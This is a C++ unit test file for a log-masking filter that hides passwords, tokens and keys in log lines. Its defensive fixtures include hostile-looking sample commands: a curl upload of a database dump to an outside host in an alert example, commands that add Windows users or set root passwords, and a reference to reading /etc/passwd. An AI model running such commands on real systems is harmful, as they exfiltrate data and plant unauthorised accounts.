// Which parts of a line are secrets, by the file that we ship: what is hidden, what is left, and where a value ends.
#include "core/filter/secrets.h"

#include <gtest/gtest.h>

#include "core/filter/literal_scan.h"
#include "core/filter/secret_mask.h"
#include "tests/unit/filter/case_record.h"

namespace yushi {
namespace {

const std::shared_ptr<const SecretRules>& rules() {
  static const auto kRules = [] {
    auto files = read_secret_directories({YUSHI_SOURCE_DIR "/config/secrets"});
    EXPECT_TRUE(files) << (files ? "" : files.error().message);
    auto loaded = SecretRules::load(*files);
    EXPECT_TRUE(loaded) << (loaded ? "" : loaded.error().message);
    return *loaded;
  }();
  return kRules;
}

std::string masked(const std::string& line) {
  SecretMask mask(rules());
  return std::string(mask.mask(std::string_view(line)));
}

// `line` has each secret between « and »: what is masked is exactly that.
void expect_marked(std::string line) {
  std::string wanted, given;
  for (size_t at = 0; at < line.size();) {
    if (line.compare(at, 2, "\xc2\xab") == 0) {
      auto end = line.find("\xc2\xbb", at);
      wanted += kMasked;
      given += line.substr(at + 2, end - at - 2);
      at = end + 2;
    } else {
      wanted += line[at];
      given += line[at++];
    }
  }
  EXPECT_EQ(masked(given), wanted) << given;
}

TEST(Secrets, KeysNameValuesInEveryNotation) {
  for (auto* line : {
           "user=li password=«hunter2»",
           "user=li password=«hunter2» port=22",
           "login failed, password: «hunter2», tries: 3",
           "Password = \"«hun ter2»\" host=a",
           "password='«hun\"ter2»'",
           "{\"user\":\"li\",\"password\":\"«hunter2»\",\"port\":22}",
           "{\"password\" : \"«hun\\\"ter,2»\", \"x\":1}",
           "{\"password\":\"«hun\\\\»\",\"x\":\"y\"}",
           "{\"msg\":\"{\\\"password\\\":\\\"«hun\\\\\\\"ter2»\\\",\\\"a\\\":1}\"}",
           "{\"password\":«123456»,\"x\":1}",
           "{\"password\":[\"«hunter2»\"]}",
           "db_password=«hunter2»",
           "{\"userPassword\":\"«hunter2»\"}",
           "PGPASSWORD=«hunter2» psql -h db",
           "passwd:=«hunter2»",
           "'secret' => '«hunter2»'",
           "GET /login?user=li&token=«abc123»&next=/ HTTP/1.1",
           "GET /a?access_token=«abc123» HTTP/1.1",
           "https://h.example/o?X-Amz-Algorithm=A&X-Amz-Signature=«0a1b2c3d»&X-Amz-Date=1",
           "user%5Bpassword%5D=x password%3D«hunter2»%26next%3D1",
           "<password>«hunter2»</password><port>22</port>",
           "<ns:userPassword>«hunter2»</ns:userPassword>",
           "<password>«hunter2»",
           "{\"sql\":\"CREATE USER x IDENTIFIED BY <secret>\",\"user\":\"li\",\"note\":\"a < b\"}",
           "Authorization: Bearer «abcdefghijk»",
           "authorization: Basic «bGk6aHVudGVyMg==»",
           "{\"Authorization\":\"Bearer «abcdefghijk»\"}",
           "x-api-key: «k-123»",
           "password=«a,b;c&d» host=a",
           "password=«a,b»,host=a",
           "(password=«hunter2»)",
           "(user=li, password=«hunter2»), next",
           "用户登录 密码：«abc123»，来源 192.0.2.1",
           "口令=«abc123» 用户=li",
           "新密码为«abc123»",
           "user[password]=«hunter2»",
           "password=«hunter2»\npassword=«other»",
           "password=\"«never ends, token=abc",
       }) {
    std::string text = line;
    if (text.ends_with("token=abc")) text += "\xc2\xbb";
    expect_marked(text);
  }
}

TEST(Secrets, CommandsTakePasswordsInOptions) {
  for (auto* line : {
           "COMMAND=/usr/bin/mysql -u root -p«hunter2» shop",
           "mysqldump --single-transaction -uroot -p'«hunter2»' shop",
           "[\"mysql\",\"-uroot\",\"-p«hunter2»\"]",
           "type=EXECVE msg=audit(1:2): argc=3 a0=\"mysql\" a1=\"-uroot\" a2=\"-p«hunter2»\"",
           "mysql --password=«hunter2» -h db",
           "set system root-authentication encrypted-password «$6$abcd»",
           "set admin-password «hunter2»",
           "tool --changed-password «hunter2» /password «hunter2»",
           "psql --password «hunter2» -h db",
           "tool -pass «hunter2» run",
           "[\"tool\",\"--password\",\"«hunter2»\",\"x\"]",
           "a0=\"tool\" a1=\"--password\" a2=\"«hunter2»\" a3=\"x\"",
           "sshpass -p «hunter2» ssh li@192.0.2.1",
           "sshpass -p'«hunter2»' ssh li@192.0.2.1",
           "SSHPASS=«hunter2» sshpass -e ssh li@192.0.2.1",
           "curl -u li:«hunter2» https://h.example/",
           "curl -s --user li:«hunter2» https://h.example/",
           "curl https://li:«hunter2»@h.example/x",
           "git clone https://oauth2:«glpat0123456789»@git.example/a.git",
           "net user li «hunter2» /add",
           "C:\\Windows\\System32\\net.exe user li «hunter2» /add",
           "redis-cli -h 192.0.2.1 -a «hunter2» info",
           "ldapsearch -x -D cn=admin -w «hunter2» -b dc=example",
           "smbclient //fs/share -U li%«hunter2»",
           "docker login -u li -p «hunter2» reg.example",
           "openssl enc -pass «pass:hunter2» -in a",
           "ALTER USER 'li' IDENTIFIED BY '«hunter2»'",
           "CREATE ROLE li WITH LOGIN PASSWORD '«hunter2»' VALID UNTIL 'x'",
           "username li password 7 «094F471A1A0A»",
           "enable secret 5 «$1$abcd$efgh»",
           "local-user li password irreversible-cipher «$1a$x»",
           "username eve password «hunter2» privilege 15",
           "username eve privilege 15 secret 5 «$1$abcd$efgh»",
           "tacacs-server key 7 «094F471A»",
           "crypto isakmp key «hunter2» address 192.0.2.7",
           "snmp-server host 192.0.2.7 version 2c «hunter2»",
           "SET PASSWORD FOR 'li'@'%' = '«hunter2»'",
           "echo root:«hunter2» | chpasswd",
           "echo «hunter2» | passwd --stdin li",
           "curl -H X-Auth-Token:«\\ hunter2» https://h.example/",
           "ConvertTo-SecureString \"«hunter2»\" -AsPlainText -Force",
           "zip -P «hunter2» a.zip b",
           "user li MYSQL_PWD=«hunter2» mysql",
           "pwd=«hunter2»&x=1",
       }) {
    expect_marked(line);
  }
}

TEST(Secrets, EachCommandOfALineHasItsOwn) {
  for (auto* line : {
           "COMMAND=/usr/bin/sshpass -p «leakone» ssh a -p 22",
           "sshpass -p «leakone» ssh -p 22 li@a; sshpass -p «leaktwo» ssh -p 22 li@b",
           "[\"sshpass\",\"-p\",\"«leakone»\",\"ssh\",\"-p\",\"22\"]",
           "curl -u a:«pw1word» https://a.example/ ; curl -u b:«pw2word» https://b.example/",
           "curl -u a:«pw1word» --proxy-user b:«pw2word» https://a.example/",
           "curl --proxy-user b:«pw2word» -sS -u a:«pw1word» https://a.example/",
           "curl -U b:«pw2word» -u a:«pw1word» https://a.example/",
           "mysql -p«leakone» -e 'select 1'; mysql -p«leaktwo»",
           "mysql -p«leakone;mysql» -p«leaktwo» shop",
           "mysqldump -p«leakone» shop | mysql -p«leaktwo» -h b",
           "redis-cli -a «leakone» info; redis-cli -a «leaktwo» info",
           "redis-cli -a «leakone» info && redis-cli -h b -a «leaktwo» info",
           "docker login -p «leakone» reg.example && docker run -p 8080:80 nginx",
           "psexec -p «leakone» \\\\a cmd ; ldapsearch -w «leaktwo» -p 389",
           "sqlplus sys/«leakone» as sysdba @/tmp/a.sql",
           "sudo sshpass -p «leakone» ssh a mysql -p«leaktwo»",
           "mosquitto_pub -h b -p 1883 -u li -P «leakone» -t a; ipmitool -H c -p 623 -P «leaktwo» power",
           "mysql -p'«my dear secret»' shop; mysql -p\"«and; another»\" shop",
           "curl -u 'li:«my dear secret»' https://a.example/",
           "[\"mysql\",\"-p«my dear secret»\",\"shop\"]",
           "{\"a\":\"mysql -p'«never» ends\",\"b\":\"it's\"}",
           "{\"a\":\"mysql -p\\\"«my dear secret»\\\" shop\",\"b\":1}",
           "mysql -p«a,b» shop",
       }) {
    expect_marked(line);
  }
}

TEST(Secrets, ProgramsWithWaysOfTheirOwn) {
  for (auto* line : {
           "mysqladmin -u root password «hunter2»",
           "mysqladmin -u root -p«old» password '«hunter2»'",
           "rabbitmqctl add_user li «hunter2»",
           "rabbitmqctl -n rabbit@a change_password li '«hunter2»'",
           "snmpwalk -v2c -c «hunter2» 192.0.2.7 system",
           "snmpget -v3 -u li -l authPriv -a SHA -A «hunter2» -x AES -X «other2» 192.0.2.7 sysName.0",
           "aws configure set aws_secret_access_key «hunter2» --profile x",
           "aws configure set profile.x.aws_session_token «hunter2»",
           "tccli configure set secretId «AKIDx» secretKey «hunter2» region ap-x",
           "aliyun configure set --access-key-secret «hunter2» --region x",
           "az storage blob list --account-key «hunter2» -c x",
           "az keyvault secret set --vault-name v -n x --value «hunter2»",
           "smbclient -L //fs -U 'EXAMPLE\\li%«hunter2»'",
           "smbclient --user=li%«hunter2» //fs/x",
           "curl -u li:«/hunter2» https://h.example/x",
           "curl -sku li:«@home,now» https://h.example/x",
           "wget --user-agent=x:1 -q https://h.example:8443/x",
           "ldapsearch -x -w«hunter2» -s sub -a never",
           "ldappasswd -x -w «hunter2» -a «old» -s «new2» uid=li",
           "openssl rsa -in a.pem -passin pass:«hunter2» -passout pass:«other2»",
           "openssl enc -aes-256-cbc -k «hunter2» -in a",
           "htpasswd -bc /etc/x li «hunter2»",
           "htpasswd -nbB li «hunter2»",
           "redis-cli -h a AUTH «hunter2»",
           "redis-cli -h a auth li «hunter2»",
           "redis-cli config set requirepass «hunter2»",
           "mongosh -u li -p «hunter2» --host a",
           "keytool -list -keystore a.jks -storepass «hunter2» -keypass «other2»",
           "kubectl create secret generic x --from-literal=user=«li» --from-literal pw=«hunter2»",
           "lftp -u li,«hunter2» sftp://h.example",
           R"({"cmd":["rabbitmqctl","add_user","li","«hunter2»"],"x":1})",
           R"({"cmd":"snmpwalk -v2c -c «hunter2» 192.0.2.7","x":"y"})",
           R"({"log":"{\"args\":[\"snmpwalk\",\"-c\",\"«hunter2»\",\"192.0.2.7\"]}"})",
           R"({"cmd":"cd /srv\nmysql -uroot -p«hunter2» shop\nredis-cli -a «other2»"})",
           "cd /srv#012mysql -uroot -p«hunter2» shop#012",
           R"(argc=5 a0="rabbitmqctl" a1="add_user" a2="li" a3="«hunter2»")",
       }) {
    expect_marked(line);
  }
}

TEST(Secrets, WhatAnotherCommandOfTheLineIsToldStays) {
  for (auto* line : {
           "mysql shop < a.sql && mkdir -p /srv/x",
           "mysql -u root shop; mkdir -p /srv/x",
           "mysql -uroot -p«hunter2» shop && mkdir -p /srv/x",
           "mysql -e 'select 1; select 2' -p«hunter2» ; mkdir -p /srv/x",
           "bash -c 'mysql shop; mkdir -p /srv/x'",
           "mysqldump shop | tar -p x",
           "mysqldump -p«hunter2» shop | gzip -p x",
           "curl https://h.example/x ; sort -u a:b",
           "redis-cli info && ls -a /tmp",
           "smbclient -L fs & date -U 5%x",
           "unzip -p a.zip b && unzip -P «hunter2» a.zip",
           "rman target / cmdfile /tmp/a.rman",
           "the mysql of li; its -p is unset",
       }) {
    expect_marked(line);
  }
}

TEST(Secrets, ACommandThatIsNamedVeryOftenHidesNothing) {
  std::string line;
  for (int i = 0; i < 300; ++i) line += "mysql -V; ";
  const std::string out = masked(line + "mysql -phunter2 shop");
  EXPECT_EQ(out.find("hunter2"), out.npos);
  EXPECT_TRUE(out.starts_with("mysql -V; mysql -V; "));
}

// A reason tells a command in the middle of what it says.
TEST(Secrets, ACommandInASentenceEndsWhereTheSentenceGoesOn) {
  for (auto* line : {
           "li 在 db-07 上执行了 mysqldump -u root -p«hunter2»（在有记录的 20 天内从未出现）",
           "li 取得 root 权限（mysql -u root -p«hunter2»），来自 192.0.2.7",
           "以 root 执行 sshpass -p «hunter2»；随后退出",
           "以 root 执行 curl -u li:«hunter2»。",
           "先后执行 redis-cli -a «hunter2»、redis-cli -a «other2»，共 2 次",
           "执行了“mysql -p«hunter2»”，主机 db-07",
           "li ran mysql -u root -p«hunter2»; the list of administrators has no such account",
           "li became root (mysql -u root -p«hunter2») on db-07",
           "Falco: a shell (li: mysql -p«hunter2»); never before",
           "li ran mysql -p«hunter2», then left",
           "li 执行 tool --password «hunter2»（首次出现）",
           "li 执行 tool --password=«hunter2»）后退出",
           // what may stand in a password stays hidden with it
           "li 执行 password=«hunter2»！随后退出",
           "mysql -p«a;b» shop",
           "mysql -p«a)b» shop",
           "mysql -p«a)» shop",
           "COMMAND=mysql -p«a;»",
           "(see https://li:«hunter2)»@h.example/x)",
           "mysql -p'«a;b»' shop",
           "mysql -p'«a;»' shop",
           "sshpass -p \"«a，b»\" ssh li@a",
       }) {
    expect_marked(line);
  }
}

// An alert tells the same command in each language, in its key, and cut off.
TEST(Secrets, AllTextsOfAnAlertAreMasked) {
  expect_marked(
      R"({"event":{"reason":"bob copied data away from db-07: curl -u bob:«pw1word» -T /tmp/all.sql https://x.example/"},)"
      R"("message":"bob copied data away from db-07: curl -u bob:«pw1word» -T /tmp/all.sql https://x.example/",)"
      R"("yushi":{"alert":{"key":"process.command_line=curl -u bob:«pw1word» -T /tmp/all.sql",)"
      R"("reason":"bob copied data away from db-07: curl -u bob:«pw1word»; the list of administrators has no such account",)"
      R"("reason_zh":"bob 将数据传送到外部（curl -u bob:«pw1word»），主机 db-07（在有记录的 20 天内从未出现）"}}})");
}

TEST(Secrets, SomeAreKnownByTheirForm) {
  for (auto* line : {
           "key «AKIAIOSFODNN7EXAMPLE» used",
           "jwt «eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U» ok",
           "-----BEGIN RSA PRIVATE KEY-----«\\nMIIEowIBAAKCAQEA\\n»-----END RSA PRIVATE KEY-----",
           "src=192.0.2.7 cs1Label=password cs1=«hunter2» act=x",
           "src=192.0.2.7 cs1Label=Policy cs1=inner",
           "{\"name\":\"password\",\"value\":\"«hunter2»\"}",
           "{\"value\":\"«hunter2»\",\"name\":\"userPassword\"}",
           "user=li pin=«4711» result=ok",
           "{\"otp\":\"«471199»\"}",
           "GET /a?session_id=«0123456789abcdef0123»&x=1",
           "pushed with «ghp_0123456789abcdefghijABCDEFGHIJ012345»",
       }) {
    expect_marked(line);
  }
}

TEST(Secrets, WhatIsNoneStays) {
  for (std::string line : {
           "Failed password for root from 192.0.2.7 port 22 ssh2",
           "Accepted password for li from 192.0.2.7 port 22 ssh2",
           "pam_unix(sshd:auth): check pass; user unknown",
           "li : TTY=pts/0 ; PWD=/home/li ; USER=root ; COMMAND=/bin/ls",
           "password changed for li",
           "用户修改密码成功",
           "password=",
           "password=null user=li",
           "{\"password\":null,\"x\":true}",
           "{\"password\":\"\",\"x\":true}",
           "password=**** user=li",
           "passwords: 3 tokens: 4",
           "bypass=1 compass: north",
           "token=3 tokens used; passwords: 3; pass=true; pass count: 7",
           "pam_unix(passwd:chauthtok): password changed for li",
           "session_id=4711 spin=5000",
           "{\"session_id\":\"123e4567-e89b-12d3-a456-426614174000\"}",
           "wrong username or password entered; username and password required",
           "{\"alert\":{\"signature\":\"ET SCAN\"}}",
           "GET https://h.example/a@b HTTP/1.1",
           "mysqld: ready for connections. port: 3306",
           "https://h.example:8443/x from a@b.example",
           "docker run -p 8080:80 nginx",
           "wang, who has left, did: changed-password on app-02",
           "lin read /etc/passwd on web-01: a file that it never read before",
           "expired-password wang",
       }) {
    EXPECT_EQ(masked(line), line);
  }
}

TEST(Secrets, AMaskedTextIsMaskedNoFurther) {
  std::string once = masked("password=hunter2 token: abc {\"secret\":\"x y\"} https://a:b@c.example/");
  EXPECT_EQ(masked(once), once);
}

TEST(Secrets, JsonStaysJson) {
  // Whatever stands in the value, the quote that ends it is found, and no escape is cut.
  for (std::string value :
       {R"(a\"b)", R"(a\\)", R"(\u0041b)", R"(a\\\"b)", R"(\"\"\")", R"(-p\"x\" y)", R"(mysql -p\"x\")"}) {
    std::string line =
        R"({"a":")" + value + R"(","password":")" + value + R"(","command":"mysql -uroot -p)" + value + R"(","z":1})";
    std::string out = masked(line);
    EXPECT_TRUE(out.ends_with(R"(,"z":1})")) << out;
    size_t quotes = 0;
    for (size_t i = 0; i < out.size(); ++i) {
      if (out[i] == '\\')
        ++i;
      else
        quotes += out[i] == '"';
    }
    EXPECT_EQ(quotes % 2, 0u) << out;
  }
}

TEST(Secrets, Gb18030KeysAreFound) {
  // 密码：abc 用户
  std::string line =
      "\xc3\xdc\xc2\xeb\xa3\xba"
      "abc123 \xd3\xc3\xbb\xa7";
  std::vector<SecretRules::Span> spans;
  rules()->find(line, Charset::gb18030, spans);
  ASSERT_EQ(spans.size(), 1u);
  EXPECT_EQ(line.substr(spans[0].begin, spans[0].end - spans[0].begin), "abc123");
}

TEST(Secrets, Gb18030ValuesEndWhereTheSentenceGoesOn) {
  // 密码：abc123，来自; mysql -pabc123；随后
  for (const std::string line : {"\xc3\xdc\xc2\xeb\xa3\xba"
                                 "abc123"
                                 "\xa3\xac\xc0\xb4\xd7\xd4",
                                 "mysql -p"
                                 "abc123"
                                 "\xa3\xbb\xcb\xe6\xba\xf3"}) {
    std::vector<SecretRules::Span> spans;
    rules()->find(line, Charset::gb18030, spans);
    ASSERT_EQ(spans.size(), 1u);
    EXPECT_EQ(line.substr(spans[0].begin, spans[0].end - spans[0].begin), "abc123");
  }
}

TEST(Secrets, NamesOfFields) {
  for (auto* name :
       {"json.password", "kv.db_password", "json.user.authToken", "acme.secret", "kv.pass", "json.X-Api-Key"})
    EXPECT_TRUE(rules()->is_secret_name(name)) << name;
  for (auto* name : {"user.name", "json.bypass", "json.compass", "message", "sshd.method", "json.passwords"})
    EXPECT_FALSE(rules()->is_secret_name(name)) << name;
}

TEST(Secrets, WrongFilesAreNamedWithTheirPlace) {
  auto problem = [](std::string text) {
    auto loaded = SecretRules::load({{"a.yaml", "a.yaml", std::move(text)}});
    return loaded ? std::string() : loaded.error().message;
  };
  EXPECT_EQ(problem("keys: [ab]"), "a.yaml:1:7: `ab` is too short: 3 bytes or more");
  EXPECT_TRUE(problem("kyes: [abc]").starts_with("a.yaml:1:1: unknown key 'kyes'"));
  EXPECT_TRUE(
      problem("patterns:\n  - {name: x, near: [abc], find: 'abc'}").starts_with("a.yaml:2:34: it needs one group"));
  EXPECT_TRUE(
      problem("patterns:\n  - {name: x, near: [abc], find: '(abc'}").starts_with("a.yaml:2:34: RE2 cannot run it"));
  EXPECT_TRUE(problem("keys: [").starts_with("a.yaml:1:"));
}

TEST(Secrets, LongHostileLinesTakeLinearTime) {
  for (std::string part : {"password=\"", "password=", "token:a,", "<password>", "{\"password\":", "mysql -p", "://a:",
                           "\\\"password\\\":\\\"", "mysql '", "snmpwalk -c x \"", "curl -u a", "redis-cli auth "}) {
    std::string line;
    while (line.size() < 1 << 20) line += part;
    (void)masked(line);
  }
}

TEST(LiteralScan, FindsEachPlaceInAnyCase) {
  LiteralScan scan;
  for (auto* word : {"password", "pass", "://", "AKIA", "密码"}) scan.add(word);
  scan.build();
  for (size_t lead = 0; lead < 40; ++lead) {
    std::string text = std::string(lead, 'x') + "PassWord=1 http://akia 密码" + std::string(lead % 7, 'y');
    std::vector<std::pair<size_t, size_t>> found;
    scan.each(text, [&](size_t number, size_t at) {
      found.emplace_back(number, at - lead);
      return true;
    });
    EXPECT_EQ(found, (std::vector<std::pair<size_t, size_t>>{{0, 0}, {1, 0}, {2, 15}, {3, 18}, {4, 23}})) << text;
  }
  EXPECT_FALSE(scan.any("nothing of it stands here, not even pas s or ak ia"));
  EXPECT_TRUE(scan.any("pass"));
  EXPECT_TRUE(scan.any("x://"));
  EXPECT_FALSE(scan.any(""));
}

// What a record gives in each field, masked.
std::map<std::string, std::vector<std::string>> fields_of(const Record& record) {
  std::map<std::string, std::vector<std::string>> out;
  Scratch scratch;
  for_each_field(record, scratch, [&](const Field& field, const Value& value) {
    out[std::string(field.name)].emplace_back(value.text);
  });
  return out;
}

TEST(SecretMask, AllFieldsOfARecordAgree) {
  test::CaseRecord one("li ran: mysql -uroot -phunter2 shop; GET /a?token=abc&x=1 done");
  ASSERT_TRUE(one.capture("process.command_line", "mysql -uroot -phunter2 shop"));
  ASSERT_TRUE(one.capture("url.path", "/a"));
  ASSERT_TRUE(one.capture("url.query", "token=abc&x=1"));
  ASSERT_TRUE(one.capture("event.reason", "done"));
  SecretMask mask(rules());
  auto fields = fields_of(mask.mask(one.record()));
  EXPECT_EQ(fields["message"],
            std::vector<std::string>{"li ran: mysql -uroot -p[masked] shop; GET /a?token=[masked]&x=1 done"});
  EXPECT_EQ(fields["event.original"], fields["message"]);
  EXPECT_EQ(fields["process.command_line"], std::vector<std::string>{"mysql -uroot -p[masked] shop"});
  EXPECT_EQ(fields["url.query"], std::vector<std::string>{"token=[masked]&x=1"});
  EXPECT_EQ(fields["url.path"], std::vector<std::string>{"/a"});
  EXPECT_EQ(fields["event.reason"], std::vector<std::string>{"done"});
  EXPECT_EQ(fields["yushi.masked"], std::vector<std::string>{"true"});
  EXPECT_EQ(fields["url.original"], std::vector<std::string>{"/a?token=[masked]&x=1"});
}

// A bare value of several words ends where the line's own reading ends it.
TEST(SecretMask, AFieldOfASentenceSaysWhatItsFirstWordSays) {
  const auto masked_value = [](const std::string& raw, const char* name, const char* value) {
    test::CaseRecord one(raw);
    EXPECT_TRUE(one.capture(name, value)) << raw;
    SecretMask mask(rules());
    return std::string(mask.mask(one.record()).raw);
  };
  EXPECT_EQ(masked_value("a=1 token=3 tokens used", "kv.token", "3 tokens used"), "a=1 token=3 tokens used");
  EXPECT_EQ(masked_value("a=1 pass=true, b=2", "kv.pass", "true,"), "a=1 pass=true, b=2");
  EXPECT_EQ(masked_value("a=1 pass=hunter2 b=2", "kv.pass", "hunter2"), "a=1 pass=[masked] b=2");
  EXPECT_EQ(masked_value("a=1 password=true!x", "kv.password", "true!x"), "a=1 password=[masked]");
  EXPECT_EQ(masked_value("a=1 password=my dear secret", "kv.password", "my dear secret"), "a=1 password=[masked]");
  EXPECT_EQ(masked_value(R"({"token":"3 dear tokens"})", "json.token", "3 dear tokens"), R"({"token":"[masked]"})");
}

TEST(SecretMask, ArgumentsAreReadTogether) {
  test::CaseRecord one("args: sshpass|-p|hunter2|ssh");
  for (auto* arg : {"sshpass", "-p", "hunter2", "ssh"}) {
    auto copy = std::string(arg);
    ASSERT_TRUE(one.capture("process.args", copy == "ssh" ? "ssh" : arg));
  }
  SecretMask mask(rules());
  auto fields = fields_of(mask.mask(one.record()));
  EXPECT_EQ(fields["message"], std::vector<std::string>{"args: sshpass|-p|[masked]|ssh"});
  EXPECT_EQ(std::count(fields["process.args"].begin(), fields["process.args"].end(), "[masked]"), 1);
}

TEST(SecretMask, HexAndEscapesAreReadAsWhatTheyStandFor) {
  // proctitle=mysql\0-phunter2
  test::CaseRecord hex("type=PROCTITLE proctitle=6D7973716C002D7068756E74657232 end");
  ASSERT_TRUE(hex.capture("process.title", "6D7973716C002D7068756E74657232", Escape::hex));
  SecretMask mask(rules());
  auto fields = fields_of(mask.mask(hex.record()));
  EXPECT_EQ(fields["process.title"], std::vector<std::string>{"[masked]"});
  EXPECT_EQ(fields["message"], std::vector<std::string>{"type=PROCTITLE proctitle=[masked] end"});

  test::CaseRecord json(R"({"cmd":"mysql \u002dphunter2","z":1})");
  ASSERT_TRUE(json.capture("process.command_line", R"(mysql \u002dphunter2)", Escape::json));
  fields = fields_of(mask.mask(json.record()));
  EXPECT_EQ(fields["process.command_line"], std::vector<std::string>{"[masked]"});
  EXPECT_EQ(fields["message"], std::vector<std::string>{R"({"cmd":"[masked]","z":1})"});
}

TEST(SecretMask, AFieldNamedAsASecretIsOne) {
  test::CaseRecord one("columns;li;hunter2;192.0.2.1");
  ASSERT_TRUE(one.capture("user.name", "li"));
  ASSERT_TRUE(one.capture("acme.password", "hunter2"));
  SecretMask mask(rules());
  auto fields = fields_of(mask.mask(one.record()));
  EXPECT_EQ(fields["acme.password"], std::vector<std::string>{"[masked]"});
  EXPECT_EQ(fields["message"], std::vector<std::string>{"columns;li;[masked];192.0.2.1"});
  EXPECT_EQ(fields["user.name"], std::vector<std::string>{"li"});
}

TEST(SecretMask, ARecordWithoutSecretsIsTheRecord) {
  test::CaseRecord one("Accepted password for li from 192.0.2.7 port 22 ssh2");
  ASSERT_TRUE(one.capture("user.name", "li"));
  SecretMask mask(rules()), none(nullptr);
  EXPECT_EQ(&mask.mask(one.record()), &one.record());
  test::CaseRecord other("password=hunter2");
  EXPECT_EQ(&none.mask(other.record()), &other.record());
}

}  // namespace
}  // namespace yushi
